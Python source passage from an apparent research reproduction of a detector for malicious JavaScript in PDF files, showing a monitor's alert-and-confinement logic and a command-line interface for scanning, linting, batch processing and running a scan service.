        re-launches the target inside Sandboxie."""
        image = str(event.args.get("image", "unknown.exe"))
        child = self.sandbox.run(image, command_line=str(event.args.get("command_line", image)))
        self._sandboxed.append((child, owner_key))

    # -- evaluation & confinement ----------------------------------------------------------

    def _evaluate(self, state: DocumentScoreState) -> Verdict:
        verdict = self.detector.evaluate(state)
        if verdict.malicious:
            if not state.alerted:
                state.alerted = True
                actions = self._confine_on_alert(state)
                self.alerts.append(
                    Alert(
                        verdict=verdict,
                        time=self.system.clock.now(),
                        confinement_actions=actions,
                    )
                )
                if self.obs.enabled:
                    self.obs.tracer.event(
                        "alert",
                        document=state.document,
                        malscore=verdict.malscore,
                    )
                    self.obs.metrics.inc("alerts")
            else:
                # Re-run confinement: operations arriving after the alert
                # (a drop the hook already let through, a sandboxed child
                # spawned later) must be contained too.
                late_actions = self._confine_on_alert(state)
                if late_actions and self.alerts:
                    self.alerts[-1].confinement_actions.extend(late_actions)
        return verdict

    def _confine_on_alert(self, state: DocumentScoreState) -> List[str]:
        actions: List[str] = []
        fs = self.system.filesystem
        for path in state.dropped_paths:
            if fs.quarantine(path):
                actions.append(f"quarantined {path}")
        for path, owner in list(self.downloaded_executables.items()):
            if owner == state.key_text and fs.quarantine(path):
                actions.append(f"quarantined downloaded executable {path}")
        for child, owner in self._sandboxed:
            if owner in (state.key_text, None) and child.alive:
                self.sandbox.terminate_and_isolate(
                    child, reason=f"alert on {state.document}"
                )
                actions.append(f"terminated sandboxed {child.name} (pid {child.pid})")
        if actions and self.obs.enabled:
            for action in actions:
                self.obs.tracer.event(
                    "confinement", action=action, document=state.document
                )
            self.obs.metrics.inc("confinement_actions", len(actions))
        return actions

    # -- verdicts / lifecycle ------------------------------------------------------

    def verdict_for(self, key_text: str) -> Verdict:
        state = self.states.get(key_text)
        if state is None:
            registered = self.static_registry.get(key_text)
            name = registered[0] if registered else "unknown"
            static = registered[1] if registered else None
            state = DocumentScoreState(key_text, name, static)
        return self.detector.evaluate(state)

    def on_reader_closed(self) -> None:
        """Malscore is volatile (per session); the executable list is not."""
        self.states.clear()
        self._context_stack.clear()
        self._sandboxed.clear()
