"""Command-line interface: ``python -m repro <command>``.

Commands
--------
``scan FILE``
    Instrument FILE, open it in a fresh monitored session and print the
    verdict, fired features, alerts and confinement actions.
``instrument FILE -o OUT [--spec SPEC.json]``
    Run the front-end only; write the instrumented document (and
    optionally the de-instrumentation spec).
``deinstrument FILE --spec SPEC.json -o OUT``
    Restore the original document from an instrumented one.
``features FILE``
    Print the five static features and the JavaScript chains.
``lint FILE [--json]``
    Static JS analysis only (``repro.jsast``): run the lint-rule
    registry over FILE's JavaScript (FILE may be a PDF or a bare ``.js``
    source file) and print the findings.  Exit code 0 = clean, 1 =
    findings at/above the triage severity, 2 = error.
``corpus OUTDIR [--benign N] [--benign-js N] [--malicious N] [--seed S]``
    Generate a labelled synthetic corpus on disk.
``batch DIR [--jobs N] [--timeout S] [--cache FILE] [--json OUT]``
    Scan every PDF under DIR in parallel (``repro.batch``): content-hash
    verdict caching, per-document timeouts/retries, aggregated report.
``serve [--host H] [--port P] [--jobs N] [--queue-depth N] [--deadline S]``
    Long-running scan service daemon (``repro.serve``): ``POST /scan``,
    ``POST /batch``, ``GET /healthz``, ``GET /metrics``,
    ``GET /jobs/<id>``; bounded-queue admission control with 429/503
    shedding, graceful drain on SIGTERM.  See ``docs/SERVICE.md``.
``report TRACE.jsonl``
    Aggregate a trace produced by ``scan --trace`` into per-phase
    latency and event-count tables.
``profile FILE [--top N] [--json OUT] [--collapsed OUT]``
    Scan FILE with the deterministic phase profiler enabled and print
    the phase breakdown plus the JS-interpreter hotspot and call-site
    tables.  ``--collapsed`` writes flamegraph-ready collapsed-stack
    lines (feed into flamegraph.pl or speedscope).

``scan`` also takes ``--trace FILE.jsonl`` (write a span/event/metric
trace of both phases) and ``--metrics`` (print a metrics summary to
stderr) — see ``docs/OBSERVABILITY.md``.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path
from typing import List, Optional

from repro.core.chains import analyze_chains
from repro.core.deinstrument import DeinstrumentationSpec, deinstrument
from repro.core.pipeline import ProtectionPipeline
from repro.core.static_features import extract_static_features
from repro.pdf.document import PDFDocument


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Context-aware detection of malicious JavaScript in PDF "
        "(DSN 2014 reproduction)",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    scan = sub.add_parser("scan", help="instrument + open + verdict")
    scan.add_argument("file", type=Path)
    scan.add_argument("--reader-version", default="9.0", choices=("8.0", "9.0"))
    scan.add_argument("--json", action="store_true", help="machine-readable output")
    scan.add_argument(
        "--trace",
        type=Path,
        metavar="FILE.jsonl",
        help="write a JSONL span/event/metric trace of both phases",
    )
    scan.add_argument(
        "--metrics",
        action="store_true",
        help="print an aggregated metrics summary to stderr",
    )
    scan.add_argument(
        "--triage",
        action="store_true",
        help="skip runtime emulation when static JS analysis is provably "
        "clean (fail-open; verdicts are unchanged)",
    )
    scan.add_argument(
        "--limits",
        metavar="K=V,...",
        help="resource-budget overrides, e.g. "
        "'stream-bytes=8mb,deadline=5' ('off' disables a budget; "
        "see docs/HARDENING.md)",
    )
    scan.add_argument(
        "--js-engine",
        choices=("ast", "bytecode"),
        default=None,
        help="JS engine for the reader session (default: REPRO_JS_ENGINE "
        "env var, then bytecode; verdicts are engine-independent)",
    )

    lint = sub.add_parser("lint", help="static JS analysis only")
    lint.add_argument("file", type=Path, help="a PDF or a bare .js source file")
    lint.add_argument("--json", action="store_true", help="machine-readable output")

    instrument = sub.add_parser("instrument", help="front-end only")
    instrument.add_argument("file", type=Path)
    instrument.add_argument("-o", "--output", type=Path, required=True)
    instrument.add_argument("--spec", type=Path, help="write de-instrumentation spec")

    deinst = sub.add_parser("deinstrument", help="restore original document")
    deinst.add_argument("file", type=Path)
    deinst.add_argument("--spec", type=Path, required=True)
    deinst.add_argument("-o", "--output", type=Path, required=True)

    features = sub.add_parser("features", help="static features + JS chains")
    features.add_argument("file", type=Path)

    corpus = sub.add_parser("corpus", help="generate a synthetic corpus")
    corpus.add_argument("outdir", type=Path)
    corpus.add_argument("--benign", type=int, default=50)
    corpus.add_argument("--benign-js", type=int, default=10)
    corpus.add_argument("--malicious", type=int, default=30)
    corpus.add_argument("--seed", type=int, default=2014)

    batch = sub.add_parser("batch", help="parallel scan of a corpus directory")
    batch.add_argument("dir", type=Path, help="directory of PDFs (or one file)")
    batch.add_argument("--jobs", type=int, default=4, help="worker count")
    batch.add_argument(
        "--backend",
        default="process",
        choices=("thread", "process"),
        help="worker pool kind (process = CPU parallelism; default)",
    )
    batch.add_argument(
        "--timeout",
        type=float,
        default=None,
        metavar="S",
        help="per-document seconds per attempt (default: no limit)",
    )
    batch.add_argument(
        "--retries", type=int, default=1,
        help="extra attempts after a timeout/crash (default 1)",
    )
    batch.add_argument(
        "--cache",
        type=Path,
        metavar="FILE",
        help="persistent JSON verdict cache (created if missing)",
    )
    batch.add_argument(
        "--no-cache", action="store_true",
        help="disable verdict caching and deduplication",
    )
    batch.add_argument(
        "--json",
        type=Path,
        metavar="OUT",
        help="write the full BatchReport as JSON to OUT ('-' for stdout)",
    )
    batch.add_argument("--reader-version", default="9.0", choices=("8.0", "9.0"))
    batch.add_argument(
        "--trace", type=Path, metavar="FILE.jsonl",
        help="write a JSONL span/metric trace of the batch run",
    )
    batch.add_argument(
        "--metrics", action="store_true",
        help="print an aggregated metrics summary to stderr",
    )
    batch.add_argument(
        "--triage",
        action="store_true",
        help="benign-triage fast path: skip runtime emulation for "
        "documents whose static JS analysis is provably clean",
    )
    batch.add_argument(
        "--limits",
        metavar="K=V,...",
        help="per-document resource-budget overrides, e.g. "
        "'stream-bytes=8mb,deadline=5' (see docs/HARDENING.md)",
    )
    batch.add_argument(
        "--profile",
        action="store_true",
        help="profile every scan: per-item phase breakdown in the "
        "report, aggregated phase totals in the summary",
    )
    batch.add_argument(
        "--js-engine",
        choices=("ast", "bytecode"),
        default=None,
        help="JS engine for every worker (default: REPRO_JS_ENGINE env "
        "var, then bytecode)",
    )

    serve = sub.add_parser("serve", help="long-running scan service daemon")
    serve.add_argument("--host", default="127.0.0.1")
    serve.add_argument(
        "--port", type=int, default=8291,
        help="listen port (0 = ephemeral; default 8291)",
    )
    serve.add_argument("--jobs", type=int, default=4, help="scan worker count")
    serve.add_argument(
        "--backend", default="thread", choices=("thread", "process"),
        help="worker pool kind (default thread: workers share the "
        "verdict cache cheaply)",
    )
    serve.add_argument(
        "--queue-depth", type=int, default=32, metavar="N",
        help="admitted requests allowed to wait for a worker (beyond "
        "this, requests are shed with 429 + Retry-After)",
    )
    serve.add_argument(
        "--max-in-flight", type=int, default=None, metavar="N",
        help="concurrent scans (default: --jobs)",
    )
    serve.add_argument(
        "--deadline", type=float, default=30.0, metavar="S",
        help="per-request wall-clock budget, queue wait included "
        "(default 30; 0 = unlimited)",
    )
    serve.add_argument(
        "--retry-after", type=float, default=1.0, metavar="S",
        help="Retry-After hint on shed responses (default 1)",
    )
    serve.add_argument(
        "--max-pending-async", type=int, default=None, metavar="N",
        help="async (mode=async) jobs allowed to be queued/running at "
        "once; the excess is shed with 429 at submission time "
        "(default: queue depth + in-flight slots)",
    )
    serve.add_argument(
        "--cache", type=Path, metavar="FILE",
        help="persistent JSON verdict cache (created if missing)",
    )
    serve.add_argument(
        "--no-cache", action="store_true",
        help="disable verdict caching and deduplication",
    )
    serve.add_argument("--reader-version", default="9.0", choices=("8.0", "9.0"))
    serve.add_argument(
        "--triage", action="store_true",
        help="benign-triage fast path for provably clean documents",
    )
    serve.add_argument(
        "--limits", metavar="K=V,...",
        help="default per-request resource budgets (clients may "
        "override per request via ?limits=...)",
    )
    serve.add_argument(
        "--trace", type=Path, metavar="FILE.jsonl",
        help="write a JSONL span/metric trace of all requests",
    )
    serve.add_argument(
        "--metrics", action="store_true",
        help="print an aggregated metrics summary to stderr on exit",
    )
    serve.add_argument(
        "--slow-threshold", type=float, default=None, metavar="S",
        help="retain full detail for scans slower than S seconds in "
        "GET /debug/slow (default: rolling p99)",
    )
    serve.add_argument(
        "--slow-capacity", type=int, default=32, metavar="N",
        help="slow-scan exemplars retained in the ring buffer "
        "(default 32)",
    )
    serve.add_argument(
        "--js-engine",
        choices=("ast", "bytecode"),
        default=None,
        help="JS engine for every scan worker (default: REPRO_JS_ENGINE "
        "env var, then bytecode)",
    )

    cluster = sub.add_parser(
        "cluster", help="sharded scan cluster (router + N shard processes)"
    )
    cluster.add_argument("--host", default="127.0.0.1")
    cluster.add_argument(
        "--port", type=int, default=8291,
        help="router listen port (0 = ephemeral; default 8291)",
    )
    cluster.add_argument(
        "--shards", type=int, default=4, metavar="N",
        help="shard processes to run (default 4)",
    )
    cluster.add_argument(
        "--shard-jobs", type=int, default=2, metavar="N",
        help="scan workers inside each shard (default 2)",
    )
    cluster.add_argument(
        "--backend", default=None, choices=("thread", "process"),
        help="worker pool kind inside each shard (default: the "
        "measured-fastest batch backend)",
    )
    cluster.add_argument(
        "--queue-depth", type=int, default=16, metavar="N",
        help="per-shard admission queue depth (default 16)",
    )
    cluster.add_argument(
        "--max-in-flight", type=int, default=None, metavar="N",
        help="per-shard concurrent scans (default: --shard-jobs)",
    )
    cluster.add_argument(
        "--deadline", type=float, default=30.0, metavar="S",
        help="router per-request budget, hops and queue wait included "
        "(default 30; 0 = unlimited)",
    )
    cluster.add_argument(
        "--retry-after", type=float, default=1.0, metavar="S",
        help="Retry-After hint on shed/failure responses (default 1)",
    )
    cluster.add_argument(
        "--max-pending-async", type=int, default=None, metavar="N",
        help="per-shard async job backlog cap (default: shard default)",
    )
    cluster.add_argument(
        "--cache", default="memory",
        choices=("memory", "disk", "server", "none"),
        help="verdict cache topology: per-shard in-memory LRU (default), "
        "per-shard on-disk JSON, one shared socket cache server, or off",
    )
    cluster.add_argument(
        "--cache-path", type=Path, metavar="FILE",
        help="base path for --cache disk (each shard appends .shardN) "
        "or for the spawned --cache server's persistence",
    )
    cluster.add_argument(
        "--cache-server", metavar="HOST:PORT",
        help="with --cache server: connect to an existing cache server "
        "instead of spawning one",
    )
    cluster.add_argument(
        "--probe-interval", type=float, default=0.5, metavar="S",
        help="supervisor health-probe cadence (default 0.5)",
    )
    cluster.add_argument(
        "--probe-timeout", type=float, default=2.0, metavar="S",
        help="per-probe timeout before a shard counts as unresponsive "
        "(default 2)",
    )
    cluster.add_argument("--reader-version", default="9.0", choices=("8.0", "9.0"))
    cluster.add_argument(
        "--triage", action="store_true",
        help="benign-triage fast path for provably clean documents",
    )
    cluster.add_argument(
        "--limits", metavar="K=V,...",
        help="default per-request resource budgets (clients may "
        "override per request via ?limits=...)",
    )
    cluster.add_argument(
        "--trace", type=Path, metavar="FILE.jsonl",
        help="write a JSONL span/metric trace of router activity",
    )
    cluster.add_argument(
        "--metrics", action="store_true",
        help="collect per-shard metrics and print a router summary to "
        "stderr on exit",
    )
    cluster.add_argument(
        "--js-engine",
        choices=("ast", "bytecode"),
        default=None,
        help="JS engine for every scan worker (default: REPRO_JS_ENGINE "
        "env var, then bytecode)",
    )

    report = sub.add_parser("report", help="aggregate a scan trace")
    report.add_argument("trace", type=Path)

    profile = sub.add_parser(
        "profile", help="scan with the phase/hotspot profiler enabled"
    )
    profile.add_argument("file", type=Path)
    profile.add_argument("--reader-version", default="9.0", choices=("8.0", "9.0"))
    profile.add_argument(
        "--top", type=int, default=10, metavar="N",
        help="rows in the hotspot / call-site tables (default 10)",
    )
    profile.add_argument(
        "--json", type=Path, metavar="OUT",
        help="write the full profile as JSON to OUT ('-' for stdout)",
    )
    profile.add_argument(
        "--collapsed", type=Path, metavar="OUT",
        help="write flamegraph-ready collapsed-stack lines to OUT",
    )
    profile.add_argument(
        "--limits", metavar="K=V,...",
        help="resource-budget overrides (see docs/HARDENING.md)",
    )
    profile.add_argument(
        "--js-engine",
        choices=("ast", "bytecode"),
        default=None,
        help="JS engine to profile (note: the bytecode engine falls "
        "back to the reference walker while a profiler is attached)",
    )
    return parser


def _build_scan_obs(args: argparse.Namespace):
    """Observability for one scan: JSONL when tracing, in-memory when
    only a metrics summary was requested, else None (no-op default)."""
    from repro.obs import JSONLSink, MemorySink, Observability

    if args.trace is not None:
        return Observability(JSONLSink(args.trace))
    if args.metrics:
        return Observability(MemorySink())
    return None


def _parse_limits_arg(args: argparse.Namespace):
    """Resolve ``--limits`` to a ScanLimits (None = defaults)."""
    from repro.limits import ScanLimits

    spec = getattr(args, "limits", None)
    if spec is None:
        return None
    return ScanLimits.parse(spec)


def _cmd_scan(args: argparse.Namespace) -> int:
    data = args.file.read_bytes()
    try:
        obs = _build_scan_obs(args)
    except OSError as error:
        print(f"error: cannot open trace file: {error}", file=sys.stderr)
        return 2
    try:
        limits = _parse_limits_arg(args)
    except ValueError as error:
        print(f"error: bad --limits: {error}", file=sys.stderr)
        return 2
    pipeline = ProtectionPipeline(
        reader_version=args.reader_version, triage=args.triage,
        limits=limits, js_engine=args.js_engine, obs=obs,
    )
    report = pipeline.scan(data, args.file.name)
    verdict = report.verdict
    if args.json:
        print(json.dumps(report.to_dict()))
    else:
        print(verdict.summary())
        if report.limit_kind is not None:
            print(f"  resource limit hit: {report.limit_kind} ({report.error})")
        if report.triaged:
            if verdict.malicious:
                print("  triaged: emulation skipped (statically proven malicious)")
            else:
                print("  triaged: emulation skipped (static analysis clean)")
        if report.crashed:
            print(f"  reader crashed: {report.outcome.crash_reason}")
        if report.did_nothing:
            print("  sample was inert (no in-JS activity)")
        for alert in report.alerts:
            for action in alert.confinement_actions:
                print(f"  confinement: {action}")
    if obs is not None:
        if args.metrics:
            print(obs.metrics.render(), file=sys.stderr)
        obs.close()  # flush metrics into the trace, close the file
        if args.trace is not None:
            print(f"trace written to {args.trace}", file=sys.stderr)
    return 1 if verdict.malicious else 0


def _cmd_lint(args: argparse.Namespace) -> int:
    """Static-analysis-only entry point.

    Exit codes: 0 = no finding at/above the triage severity, 1 = at
    least one, 2 = the file could not be read or analysed at all.
    """
    from repro.jsast import analyze_script
    from repro.jsast.analyzer import DocumentJSAnalysis, analyze_document
    from repro.pdf.parser import PDFParseError
    from repro.pdf.lexer import LexerError

    try:
        data = args.file.read_bytes()
    except OSError as error:
        print(f"error: cannot read {args.file}: {error}", file=sys.stderr)
        return 2

    if data.lstrip()[:5] == b"%PDF-":
        try:
            document = PDFDocument.from_bytes(data)
        except (PDFParseError, LexerError) as error:
            print(f"error: cannot parse PDF: {error}", file=sys.stderr)
            return 2
        analysis = analyze_document(document)
    else:
        # Bare JavaScript source.
        code = data.decode("utf-8", "replace")
        analysis = DocumentJSAnalysis(reports=[analyze_script(code, args.file.name)])

    if args.json:
        print(json.dumps(analysis.to_dict(), indent=2, sort_keys=True))
    else:
        if not analysis.reports and not analysis.guards:
            print(f"{args.file.name}: no JavaScript")
        for guard in analysis.guards:
            print(f"{args.file.name}: guard {guard} (triage-ineligible)")
        for report in analysis.reports:
            status = "suspicious" if report.suspicious else "clean"
            print(
                f"{report.script}: {status} "
                f"(obfuscation {report.obfuscation_score:g}/10"
                + (", parse error" if report.parse_error else "")
                + ")"
            )
            if report.absint:
                verdict = report.absint_verdict
                reason = report.absint.get("reason", "")
                depth = report.absint.get("max_depth", 0)
                print(
                    f"  absint: {verdict} ({reason}; "
                    f"{report.absint.get('steps', 0)} steps, "
                    f"{depth} staged layer(s))"
                )
            for finding in report.findings:
                print(
                    f"  [{finding.severity.name.lower()}] "
                    f"{finding.rule}: {finding.message}"
                )
            for api in report.side_effect_apis:
                print(f"  [info] side-effect API: {api}")
        if analysis.proven_malicious:
            verdict = "proven malicious"
        elif analysis.suspicious:
            verdict = "suspicious"
        elif analysis.triage_eligible:
            verdict = "triage-eligible"
        else:
            verdict = "needs emulation"
        print(f"=> {verdict}")

    return 1 if analysis.suspicious else 0


def _cmd_report(args: argparse.Namespace) -> int:
    from repro.obs.report import render_report

    try:
        print(render_report(args.trace))
    except OSError as error:
        print(f"error: cannot read trace: {error}", file=sys.stderr)
        return 2
    except json.JSONDecodeError as error:
        print(f"error: {args.trace} is not a JSONL trace: {error}", file=sys.stderr)
        return 2
    return 0


def _cmd_profile(args: argparse.Namespace) -> int:
    """Profiled scan: phase breakdown + JS hotspot attribution."""
    try:
        data = args.file.read_bytes()
    except OSError as error:
        print(f"error: cannot read {args.file}: {error}", file=sys.stderr)
        return 2
    try:
        limits = _parse_limits_arg(args)
    except ValueError as error:
        print(f"error: bad --limits: {error}", file=sys.stderr)
        return 2
    pipeline = ProtectionPipeline(
        reader_version=args.reader_version, limits=limits, profile=True,
        js_engine=args.js_engine,
    )
    report = pipeline.scan(data, args.file.name)
    profile = report.profile
    if profile is None:  # pragma: no cover - profile=True guarantees it
        print("error: scan produced no profile", file=sys.stderr)
        return 2

    payload = profile.to_dict(top=args.top)
    if args.json is not None:
        text = json.dumps(payload, indent=2, sort_keys=True)
        if str(args.json) == "-":
            print(text)
        else:
            args.json.write_text(text + "\n")
            print(f"profile written to {args.json}", file=sys.stderr)
    else:
        verdict = report.verdict
        total = profile.total_seconds
        print(verdict.summary())
        print(f"total {total * 1000:.2f}ms across phases:")
        for phase, seconds in sorted(
            profile.phase_seconds().items(), key=lambda kv: -kv[1]
        ):
            if seconds <= 0.0:
                continue
            share = (seconds / total * 100.0) if total else 0.0
            print(f"  {phase:<12} {seconds * 1000:9.2f}ms  {share:5.1f}%")
        if profile.counters:
            counts = ", ".join(
                f"{name}={value:g}"
                for name, value in sorted(profile.counters.items())
            )
            print(f"counters: {counts}")
        hotspots = profile.js.hotspots(args.top)
        if hotspots:
            print(f"top {len(hotspots)} AST node hotspots (self time):")
            for row in hotspots:
                print(
                    f"  {row['node']:<24} {row['self_seconds'] * 1000:9.3f}ms"
                    f"  x{row['hits']}"
                )
        call_sites = profile.js.call_sites(args.top)
        if call_sites:
            print(f"top {len(call_sites)} call-sites (inclusive time):")
            for row in call_sites:
                print(
                    f"  {row['function']:<24} {row['seconds'] * 1000:9.3f}ms"
                    f"  (self {row['self_seconds'] * 1000:.3f}ms,"
                    f" x{row['calls']})"
                )

    if args.collapsed is not None:
        lines = profile.js.collapsed_lines()
        args.collapsed.write_text("\n".join(lines) + ("\n" if lines else ""))
        print(
            f"{len(lines)} collapsed stack(s) written to {args.collapsed}",
            file=sys.stderr,
        )
    return 1 if report.verdict.malicious else 0


def _cmd_instrument(args: argparse.Namespace) -> int:
    pipeline = ProtectionPipeline()
    protected = pipeline.protect(args.file.read_bytes(), args.file.name)
    args.output.write_bytes(protected.data)
    print(
        f"instrumented {protected.instrumentation.instrumented_scripts} script(s) "
        f"(+{len(protected.embedded)} embedded PDF(s)); key {protected.key_text}"
    )
    if args.spec is not None:
        args.spec.write_text(json.dumps(protected.spec.to_dict(), indent=2))
        print(f"de-instrumentation spec written to {args.spec}")
    return 0


def _cmd_deinstrument(args: argparse.Namespace) -> int:
    spec = DeinstrumentationSpec.from_dict(json.loads(args.spec.read_text()))
    restored = deinstrument(args.file.read_bytes(), spec)
    args.output.write_bytes(restored)
    print(f"restored {len(spec.entries)} script(s) -> {args.output}")
    return 0


def _cmd_features(args: argparse.Namespace) -> int:
    document = PDFDocument.from_bytes(args.file.read_bytes())
    chains = analyze_chains(document)
    features = extract_static_features(document, chains=chains)
    print(f"objects          : {len(document.store)}")
    print(f"javascript chains: {len(chains.chains)} "
          f"({len(chains.triggered_chains())} triggered)")
    print(f"F1 chain ratio   : {features.js_chain_ratio:.3f} -> {features.f1}")
    print(f"F2 header obf    : {features.header_obfuscated} -> {features.f2}")
    print(f"F3 hex keyword   : {features.hex_code_in_keyword} -> {features.f3}")
    print(f"F4 empty objects : {features.empty_object_count} -> {features.f4}")
    print(f"F5 encoding lvls : {features.encoding_levels} -> {features.f5}")
    return 0


def _cmd_corpus(args: argparse.Namespace) -> int:
    from repro.corpus import CorpusConfig, build_dataset

    config = CorpusConfig(
        n_benign=args.benign,
        n_benign_with_js=args.benign_js,
        n_malicious=args.malicious,
        benign_seed=args.seed,
        malicious_seed=args.seed + 1,
    )
    dataset = build_dataset(config)
    benign_dir = args.outdir / "benign"
    malicious_dir = args.outdir / "malicious"
    benign_dir.mkdir(parents=True, exist_ok=True)
    malicious_dir.mkdir(parents=True, exist_ok=True)
    manifest = []
    for sample in dataset.all_samples():
        target = (malicious_dir if sample.malicious else benign_dir) / sample.name
        target.write_bytes(sample.data)
        manifest.append(
            {"name": sample.name, "label": sample.label, "kind": sample.kind,
             **{k: v for k, v in sample.meta.items() if isinstance(v, (str, int, bool, float))}}
        )
    (args.outdir / "manifest.json").write_text(json.dumps(manifest, indent=1))
    print(
        f"wrote {len(dataset.benign)} benign + {len(dataset.malicious)} malicious "
        f"samples to {args.outdir}"
    )
    return 0


def _cmd_batch(args: argparse.Namespace) -> int:
    from repro.batch import BatchScanner, VerdictCache
    from repro.batch.scanner import _settings_fingerprint
    from repro.core.pipeline import PipelineSettings
    from repro.corpus.files import load_pdf_items

    try:
        obs = _build_scan_obs(args)
    except OSError as error:
        print(f"error: cannot open trace file: {error}", file=sys.stderr)
        return 2
    try:
        items = load_pdf_items(args.dir)
    except FileNotFoundError as error:
        print(f"error: {error}", file=sys.stderr)
        return 2
    if not items:
        print(f"error: no PDF files under {args.dir}", file=sys.stderr)
        return 2

    try:
        limits = _parse_limits_arg(args)
    except ValueError as error:
        print(f"error: bad --limits: {error}", file=sys.stderr)
        return 2
    if limits is not None:
        settings = PipelineSettings(
            reader_version=args.reader_version, triage=args.triage,
            limits=limits, profile=args.profile, js_engine=args.js_engine,
        )
    else:
        settings = PipelineSettings(
            reader_version=args.reader_version, triage=args.triage,
            profile=args.profile, js_engine=args.js_engine,
        )
    if args.no_cache:
        cache = False
    elif args.cache is not None:
        cache = VerdictCache(
            path=args.cache, fingerprint=_settings_fingerprint(settings)
        )
    else:
        cache = None  # private in-memory cache
    scanner = BatchScanner(
        jobs=args.jobs,
        backend=args.backend,
        timeout=args.timeout,
        retries=args.retries,
        settings=settings,
        cache=cache,
        obs=obs,
    )
    report = scanner.scan_items(items)

    print(report.summary())
    if args.json is not None:
        payload = json.dumps(report.to_dict(), indent=2, sort_keys=True)
        if str(args.json) == "-":
            print(payload)
        else:
            args.json.write_text(payload + "\n")
            print(f"report written to {args.json}", file=sys.stderr)
    if args.cache is not None and not args.no_cache:
        print(f"verdict cache saved to {args.cache}", file=sys.stderr)
    if obs is not None:
        if args.metrics:
            print(obs.metrics.render(), file=sys.stderr)
        obs.close()
        if args.trace is not None:
            print(f"trace written to {args.trace}", file=sys.stderr)
    counts = report.counts
    if counts["errored"] or counts["timeout"]:
        return 2
    return 1 if counts["malicious"] else 0


def _cmd_serve(args: argparse.Namespace) -> int:
    import signal
    import threading

    from repro.batch import VerdictCache
    from repro.batch.scanner import _settings_fingerprint
    from repro.core.pipeline import PipelineSettings
    from repro.serve import AdmissionConfig, ScanService, start_server

    try:
        obs = _build_scan_obs(args)
    except OSError as error:
        print(f"error: cannot open trace file: {error}", file=sys.stderr)
        return 2
    try:
        limits = _parse_limits_arg(args)
    except ValueError as error:
        print(f"error: bad --limits: {error}", file=sys.stderr)
        return 2
    if limits is not None:
        settings = PipelineSettings(
            reader_version=args.reader_version, triage=args.triage,
            limits=limits, js_engine=args.js_engine,
        )
    else:
        settings = PipelineSettings(
            reader_version=args.reader_version, triage=args.triage,
            js_engine=args.js_engine,
        )
    if args.no_cache:
        cache = False
    elif args.cache is not None:
        cache = VerdictCache(
            path=args.cache, fingerprint=_settings_fingerprint(settings)
        )
    else:
        cache = None  # private in-memory cache
    admission = AdmissionConfig(
        max_queue_depth=args.queue_depth,
        max_in_flight=(
            args.max_in_flight if args.max_in_flight is not None else args.jobs
        ),
        deadline_seconds=args.deadline if args.deadline > 0 else None,
        retry_after_seconds=args.retry_after,
    )
    service = ScanService(
        settings=settings,
        jobs=args.jobs,
        backend=args.backend,
        admission=admission,
        cache=cache,
        max_pending_async=args.max_pending_async,
        obs=obs,
        slow_threshold=args.slow_threshold,
        slow_capacity=args.slow_capacity,
    )
    handle = start_server(service, host=args.host, port=args.port)
    print(f"repro serve listening on {handle.url} "
          f"({args.jobs} {args.backend} worker(s), "
          f"queue {admission.max_queue_depth}, "
          f"in-flight {admission.max_in_flight})")

    stop = threading.Event()

    def _on_signal(_signum: int, _frame: object) -> None:
        stop.set()

    signal.signal(signal.SIGTERM, _on_signal)
    signal.signal(signal.SIGINT, _on_signal)
    try:
        stop.wait()
    finally:
        print("draining...", file=sys.stderr)
        drained = handle.stop()
        snap = service.admission.snapshot()
        shed_total = sum(snap["shed"].values())
        print(
            f"served {snap['completed']} request(s), shed {shed_total}; "
            f"drain {'clean' if drained else 'timed out'}",
            file=sys.stderr,
        )
        if obs is not None:
            if args.metrics:
                print(obs.metrics.render(), file=sys.stderr)
            obs.close()
            if args.trace is not None:
                print(f"trace written to {args.trace}", file=sys.stderr)
    return 0


def _cmd_cluster(args: argparse.Namespace) -> int:
    import signal
    import threading

    from repro.cluster import CacheSpec, ClusterConfig, ClusterRouter
    from repro.core.pipeline import PipelineSettings
    from repro.serve import start_server

    try:
        obs = _build_scan_obs(args)
    except OSError as error:
        print(f"error: cannot open trace file: {error}", file=sys.stderr)
        return 2
    try:
        limits = _parse_limits_arg(args)
    except ValueError as error:
        print(f"error: bad --limits: {error}", file=sys.stderr)
        return 2
    if limits is not None:
        settings = PipelineSettings(
            reader_version=args.reader_version, triage=args.triage,
            limits=limits, js_engine=args.js_engine,
        )
    else:
        settings = PipelineSettings(
            reader_version=args.reader_version, triage=args.triage,
            js_engine=args.js_engine,
        )
    address = None
    if args.cache_server is not None:
        host, _, port_text = args.cache_server.rpartition(":")
        try:
            address = (host or "127.0.0.1", int(port_text))
        except ValueError:
            print(f"error: bad --cache-server {args.cache_server!r} "
                  "(want HOST:PORT)", file=sys.stderr)
            return 2
    if args.cache == "disk" and args.cache_path is None:
        print("error: --cache disk needs --cache-path", file=sys.stderr)
        return 2
    try:
        cache = CacheSpec(
            kind=args.cache,
            path=str(args.cache_path) if args.cache_path is not None else None,
            address=address,
        )
    except ValueError as error:
        print(f"error: bad cache spec: {error}", file=sys.stderr)
        return 2
    config_kwargs = dict(
        shards=args.shards,
        shard_jobs=args.shard_jobs,
        queue_depth=args.queue_depth,
        max_in_flight=args.max_in_flight,
        deadline_seconds=args.deadline if args.deadline > 0 else None,
        retry_after_seconds=args.retry_after,
        max_pending_async=args.max_pending_async,
        probe_interval=args.probe_interval,
        probe_timeout=args.probe_timeout,
        shard_metrics=args.metrics,
    )
    if args.backend is not None:
        config_kwargs["backend"] = args.backend
    try:
        config = ClusterConfig(**config_kwargs)
    except ValueError as error:
        print(f"error: bad cluster config: {error}", file=sys.stderr)
        return 2
    router = ClusterRouter(
        settings=settings, config=config, cache=cache, obs=obs
    )
    try:
        handle = start_server(router, host=args.host, port=args.port)
    except RuntimeError as error:
        print(f"error: cluster failed to start: {error}", file=sys.stderr)
        return 2
    print(f"repro cluster listening on {handle.url} "
          f"({config.shards} shard(s) x {config.shard_jobs} worker(s), "
          f"cache {cache.kind})")

    stop = threading.Event()

    def _on_signal(_signum: int, _frame: object) -> None:
        stop.set()

    signal.signal(signal.SIGTERM, _on_signal)
    signal.signal(signal.SIGINT, _on_signal)
    try:
        stop.wait()
    finally:
        print("draining cluster...", file=sys.stderr)
        drained = handle.stop()
        stats = router.stats()
        print(
            f"routed {stats['requests']} request(s), "
            f"{stats['reroutes']} reroute(s), "
            f"{sum(stats['respawns'].values())} respawn(s); "
            f"drain {'clean' if drained else 'timed out'}",
            file=sys.stderr,
        )
        if obs is not None:
            if args.metrics:
